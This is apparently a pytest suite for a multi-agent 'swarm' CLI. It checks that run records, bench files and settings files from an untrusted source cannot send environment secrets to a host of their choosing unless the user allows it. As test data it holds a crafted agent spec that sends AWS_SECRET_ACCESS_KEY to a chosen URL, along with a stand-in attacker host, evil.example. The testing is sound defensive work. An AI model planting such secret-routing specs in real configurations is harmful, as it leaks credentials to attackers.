"""`swarm run` and `swarm bench` with files of a stranger: no file chooses both a secret and where it goes."""

import json

import pytest

from swarm_env.playing.runner import play
from tests.chat.server import Server, ok
from tests.chat.test_keys import DEFAULT, SECRET, everything, planted, sent
from tests.cli.programs import swarm

assert planted  # a fixture
SMALL = ("--rounds", "2", "--seed", "1", "--num-agents", "2", "--fps", "0", "-q")
EVIL = "llm:m@{url}?key_env=AWS_SECRET_ACCESS_KEY"


@pytest.fixture
def server():
    with Server(lambda request: ok('{"action": "STAY", "message": ""}')) as started:
        yield started


@pytest.fixture
def stranger(tmp_path, server, monkeypatch):
    """A function from a team to a run folder of a stranger, stopped before its first round."""
    monkeypatch.chdir(tmp_path)

    def make(team):
        folder = tmp_path / "stranger"
        play("pursuit", "scripted*2", seed=1, num_agents=2, max_rounds=2, message="text", out=folder,
             observer=lambda frame: False)  # fmt: skip
        info = json.loads((folder / "run.json").read_text())
        info["team"] = team.format(url=server.url)
        info["decided_from"] = [0] * len(team.split(","))
        (folder / "run.json").write_text(json.dumps(info))
        return folder

    return make


BENCH = """
scenarios = ["pursuit"]
teams = ["{team}"]
seeds = 1
[settings.small]
num_agents = 2
max_rounds = 1
"""


def test_a_recorded_team_gets_no_secret_of_its_choice(capsys, server, stranger):
    run = stranger(EVIL)
    for command in (
        ("--resume", run),
        ("--from", run, "--round", 0),
        ("--from", run, "--round", 0, "--model", "n"),
    ):
        done = swarm(capsys, "run", *command, "-q")
        assert done.status == 2 and "--allow-key AWS_SECRET_ACCESS_KEY=127.0.0.1:" in done.err
    assert (
        swarm(
            capsys, "run", "--resume", run, "-q", "--allow-key", "AWS_SECRET_ACCESS_KEY=evil.example"
        ).status
        == 2
    )
    assert not server.requests
    done = swarm(capsys, "run", "--resume", run, "-q", "--allow-key", "AWS_SECRET_ACCESS_KEY=127.0.0.1")
    assert done.status == 0 and sent(server) == {SECRET}


def test_a_recorded_variable_without_an_address_is_not_sent_to_the_user_s_server(
    capsys, server, stranger, monkeypatch
):
    monkeypatch.setenv("OPENAI_BASE_URL", server.url)
    run = stranger("llm:m?key_env=AWS_SECRET_ACCESS_KEY")
    assert swarm(capsys, "run", "--resume", run, "-q").status == 2
    more = ("--from", run, "--round", 0, "--base-url", server.url)
    assert swarm(capsys, "run", *more, "-q").status == 2
    assert not server.requests


def test_a_recorded_server_of_this_machine_is_resumed_without_a_key_and_without_a_flag(
    capsys, server, stranger
):
    assert swarm(capsys, "run", "--resume", stranger("llm:m@{url}"), "-q").status == 0
    assert sent(server) == {"none"} and DEFAULT not in everything(server)


def test_a_recorded_remote_server_is_refused_before_any_request(capsys, server, stranger):
    run = stranger("llm:m@{url}*1, llm:m@https://evil.example/v1")
    done = swarm(capsys, "run", "--resume", run, "-q")
    assert done.status == 2 and "--allow-key OPENAI_API_KEY=evil.example" in done.err
    assert not server.requests


def test_a_bench_file_gets_no_secret_of_its_choice(capsys, server, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "bench.toml").write_text(BENCH.format(team=EVIL.format(url=server.url)))
    done = swarm(capsys, "bench", "bench.toml", "-q")
    assert done.status == 2 and "--allow-key AWS_SECRET_ACCESS_KEY=" in done.err and not server.requests
    allowed = ("--allow-key", "AWS_SECRET_ACCESS_KEY=127.0.0.1")
    assert swarm(capsys, "bench", "bench.toml", "-q", *allowed).status == 0
    assert sent(server) == {SECRET}
    server.requests.clear()
    (tmp_path / "bench.toml").write_text(BENCH.format(team=f"llm:m@{server.url}"))
    assert swarm(capsys, "bench", "bench.toml", "-q", "--out", "other").status == 0
    assert sent(server) == {"none"}


def test_a_settings_file_gets_no_secret_of_its_choice(capsys, server, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "world.toml").write_text(f'agents = "{EVIL.format(url=server.url)}"\n')
    assert swarm(capsys, "run", "pursuit", *SMALL, "-c", "world.toml").status == 2
    (tmp_path / "world.toml").write_text(f'agents = "llm:m@{server.url}"\n')
    key = ("--key-env", "AWS_SECRET_ACCESS_KEY")
    assert swarm(capsys, "run", "pursuit", *SMALL, "-c", "world.toml", *key).status == 2
    assert not server.requests


def test_the_command_line_binds_what_stands_on_it(capsys, server, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    address, key = ("--base-url", server.url), ("--key-env", "AWS_SECRET_ACCESS_KEY")
    for arguments, expected in (
        (("-a", EVIL.format(url=server.url)), SECRET),
        (("-a", f"llm:m@{server.url}", *key), SECRET),
        (("-a", "llm:m", *address, *key), SECRET),
        (("-a", "llm:m", *address), DEFAULT),
        (("-a", f"llm:m@{server.url}"), "none"),
        (("--set", f"agents=llm:m@{server.url}"), "none"),
    ):
        server.requests.clear()
        done = swarm(capsys, "run", "pursuit", *SMALL, *arguments)
        assert done.status == 0, done.err
        assert sent(server) == {expected}, arguments


def test_the_mixed_team_of_the_readme_sends_each_key_to_its_own_server(capsys, server, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with Server(server.answer) as openai:
        monkeypatch.setenv("OPENAI_BASE_URL", openai.url)
        team = f"llm:gpt-4.1-mini*5, llm:qwen3@{server.url}*3, scripted*2"
        done = swarm(capsys, "run", "pursuit", "--rounds", "1", "--seed", "1", "-q", "-a", team)
        assert done.status == 0, done.err
        assert sent(openai) == {DEFAULT} and len(openai.requests) == 5
        assert sent(server) == {"none"} and len(server.requests) == 3
    assert DEFAULT not in everything(server)


def test_a_server_of_the_protocol_s_team_gets_a_key_that_is_allowed(capsys, server, tmp_path):
    (tmp_path / "questions.jsonl").write_text('{"question": "1 + 1?"}\n')
    command = ("consensus", "fortytwo", tmp_path / "questions.jsonl", "--team", f"llm:m@{server.url}*3")
    swarm(capsys, *command, "--allow-key", "OPENAI_API_KEY=evil.example")
    assert sent(server) == {"none"}
    server.requests.clear()
    swarm(capsys, *command, "--allow-key", "OPENAI_API_KEY=127.0.0.1")
    assert sent(server) == {DEFAULT}
    done = swarm(capsys, *command, "--allow-key", "OPENAI_API_KEY")
    assert done.status == 2 and "must be VARIABLE=HOST" in done.err
